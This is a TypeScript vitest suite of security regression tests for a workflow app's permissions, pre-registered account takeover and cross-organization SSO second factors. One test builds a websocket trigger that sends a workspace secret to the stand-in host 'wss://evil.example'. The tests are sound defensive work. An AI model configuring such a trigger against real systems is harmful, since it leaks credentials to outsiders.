import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { closeConnections, rawDb } from "@/server/db/client";
import { newId } from "@/server/db/id";
import { viewHealth } from "@/server/home/service";
import * as organizing from "@/server/organizing/service";
import * as secrets from "@/server/secrets/service";
import { createAccount } from "@/server/scim/accounts";
import { admit } from "@/server/sso/admit";
import { makeCompany } from "@/server/sso/testing/organization";
import { grantPart, makePerson, makeScope } from "@/server/testing/factories";
import * as triggers from "@/server/triggers/service";
import * as workflows from "@/server/workflows/service";
import { resetPassword } from "./reset";
import { openUserScope, type Scope } from "./scope";
import { createSession, findAnySession } from "./session";
import { createLinkToken } from "./sign-in-links";

const origin = { ip: "10.0.0.9", userAgent: null, requestId: "test" };
let owner: Scope;
let admin: Scope;

beforeAll(async () => {
  owner = await makeScope("owner");
  admin = await makeScope("admin", owner.workspaceId);
});
afterAll(closeConnections);

async function addPasskey(userId: string): Promise<void> {
  await rawDb().passkey.create({ data: { id: newId(), userId, credentialId: newId(), publicKey: new Uint8Array(1), rpId: "localhost", name: "One" } });
}

describe("attack: more than one folder has", () => {
  it("a trigger that sends a secret of the workspace somewhere, by somebody with one folder", async () => {
    const { id: folderId } = await organizing.createFolder({ scope: admin }, { name: newId(), parentId: null });
    const { id: workflowId } = await workflows.createWorkflow({ scope: admin }, { name: newId(), description: "", folderId });
    await secrets.putSecret({ scope: admin }, { name: "STRIPE", value: "of-the-workspace" });
    const { id } = await makePerson(owner.organizationId);
    await grantPart(admin, id, "builder", { folderId });
    const guest = await openUserScope(id, { id: owner.workspaceId });
    const trigger = { workflowId, kind: "websocket" as const, name: "Out", config: { url: "wss://evil.example", secret: "STRIPE" }, settings: {}, nodeId: null, versionNumber: null };
    const make = () => triggers.createTrigger({ scope: guest.for("trigger:write") }, trigger);
    await expect(make()).rejects.toMatchObject({ kind: "forbidden", data: { permission: "secret:use" } });
    await secrets.putSecret({ scope: guest.for("secret:write") }, { name: "STRIPE", value: "of-the-folder", folderId });
    const made = await make();
    const asked = () => secrets.readTriggerSecret({ id: made.id, workspaceId: owner.workspaceId, name: "Out" }, "STRIPE");
    expect(await asked()).toBe("of-the-folder");
    // Once it is gone, the workspace's own of that name does not take its place.
    await rawDb().secret.deleteMany({ where: { workspaceId: owner.workspaceId, folderId } });
    expect(await asked()).toBeNull();
    const theirs = await triggers.createTrigger({ scope: admin }, trigger);
    expect(await secrets.readTriggerSecret({ id: theirs.id, workspaceId: owner.workspaceId, name: "Out" }, "STRIPE")).toBe("of-the-workspace");
  });

  it("the picture of a workspace that somebody with all of it has just looked at", async () => {
    const { id: folderId } = await organizing.createFolder({ scope: admin }, { name: newId(), parentId: null });
    const { id } = await makePerson(owner.organizationId);
    await grantPart(admin, id, "viewer", { folderId });
    const guest = (await openUserScope(id, { id: owner.workspaceId })).for("run:read");
    const [wide, narrow] = await Promise.all([viewHealth({ scope: admin }, { window: "month" }), viewHealth({ scope: guest }, { window: "month" })]);
    expect(narrow).not.toBe(wide);
  });
});

describe("attack: an account made beforehand for somebody else's address", () => {
  it("is adopted by no organization of that address until its holder has shown that the mailbox is theirs", async () => {
    const company = await makeCompany();
    const email = `ceo@${company.domain}`;
    const { id } = await rawDb().user.create({ data: { id: newId(), email, passwordHash: "of the attacker" } });
    await addPasskey(id);
    const { organizationId } = company.organization;
    const connectionId = newId();
    await rawDb().ssoConnection.create({ data: { id: connectionId, organizationId, kind: "oidc", name: "IdP", mapping: { rules: [] }, issuer: "https://idp.example", clientId: "x" } });
    const connection = await rawDb().ssoConnection.findUniqueOrThrow({ where: { id: connectionId } });
    const identity = { subject: "ceo", email, name: "Ceo", groups: [], emailUnverified: false };
    const wanted = { userName: email, externalId: null, email, name: "Ceo", givenName: null, familyName: null, active: true };
    await expect(createAccount(company.organization, wanted)).rejects.toMatchObject({ status: 409 });
    expect(await rawDb().organizationMember.count({ where: { userId: id } })).toBe(0);
    await resetPassword(await createLinkToken(id, "reset"), "battery staple correct horse", origin);
    expect(await rawDb().passkey.count({ where: { userId: id } })).toBe(0);
    expect(await admit(connection, identity as never, origin)).toMatchObject({ id });
  });
});

describe("attack: another organization's provider", () => {
  it("does not stand in for the second factor of this one, nor for a way that it allows", async () => {
    const [here, there] = [await makeCompany(), await makeCompany()];
    const { id } = await makePerson(here.organization.organizationId, "admin");
    await rawDb().organizationMember.create({ data: { organizationId: there.organization.organizationId, userId: id } });
    await addPasskey(id);
    const by = async ({ organization }: typeof here) => (await findAnySession(await createSession(id, {}, { method: "sso", ssoOrganizationId: organization.organizationId })))?.stage;
    expect([await by(here), await by(there)]).toEqual(["full", "full"]);
    await rawDb().organization.update({ where: { id: here.organization.organizationId }, data: { signInMethods: ["passkey"] } });
    expect([await by(here), await by(there)]).toEqual(["full", "second_factor"]);
    await rawDb().organization.update({ where: { id: here.organization.organizationId }, data: { signInMethods: [], secondFactorRequired: true } });
    expect([await by(here), await by(there)]).toEqual(["full", "second_factor"]);
  });
});
